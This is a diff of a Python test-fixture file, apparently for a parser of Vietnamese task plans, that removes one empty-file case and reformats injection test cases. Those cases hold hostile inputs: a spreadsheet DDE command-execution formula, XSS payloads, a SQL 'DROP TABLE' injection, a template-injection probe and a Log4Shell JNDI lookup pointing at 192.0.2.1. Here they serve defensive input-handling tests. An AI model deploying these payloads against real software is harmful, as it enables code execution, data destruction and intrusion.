@@ -17,7 +17,6 @@ def _plan(*more: str) -> bytes:
 
 
 ENCODINGS = (
-    rejected("txt/rong.txt", "empty", b""),
     rejected("txt/khoang-trang.txt", "empty", b" \n\t\r\n   \n"),
     rejected("txt/chi-bom.txt", "empty", b"\xef\xbb\xbf"),
     rejected("txt/chi-ky-tu-an.txt", "empty", "\u200b\u200e\u2060\ufeff\n\u00ad".encode()),
@@ -39,9 +38,24 @@ CHARACTERS = (
     ok("txt/emoji.txt", _plan("2. Giao Phòng Kinh tế 👩‍👩‍👧‍👦🏳️‍🌈 rà soát.")),
     ok("txt/ky-tu-rieng.txt", _plan("\ue000\uf8ff\U000f0000 nội dung")),
     ok("txt/dau-chong.txt", _plan("2. a" + "\u0301" * 20_000)),
-    ok("txt/cong-thuc.txt", _plan("2. =HYPERLINK(\"http://192.0.2.1\";\"x\") Giao Phòng Kinh tế rà soát.", "- =cmd|' /C calc'!A0", "- +1+1", "- @SUM(1)", "- -1+1")),
-    ok("txt/ma-html.txt", _plan("2. Giao Phòng <script>alert(1)</script> \"><img src=x onerror=alert(1)> Kinh tế rà soát.")),
-    ok("txt/ma-sql.txt", _plan("2. Giao Phòng Kinh tế'); DROP TABLE tasks;-- rà soát; \"{{7*7}}\" ${jndi:ldap://192.0.2.1}")),
+    ok(
+        "txt/cong-thuc.txt",
+        _plan(
+            '2. =HYPERLINK("http://192.0.2.1";"x") Giao Phòng Kinh tế rà soát.',
+            "- =cmd|' /C calc'!A0",
+            "- +1+1",
+            "- @SUM(1)",
+            "- -1+1",
+        ),
+    ),
+    ok(
+        "txt/ma-html.txt",
+        _plan('2. Giao Phòng <script>alert(1)</script> "><img src=x onerror=alert(1)> Kinh tế rà soát.'),
+    ),
+    ok(
+        "txt/ma-sql.txt",
+        _plan('2. Giao Phòng Kinh tế\'); DROP TABLE tasks;-- rà soát; "{{7*7}}" ${jndi:ldap://192.0.2.1}'),
+    ),
     ok("txt/dau-ngoac-kep.txt", _plan('2. Giao "Phòng ""Kinh tế"""\t;,|rà soát.')),
 )
 
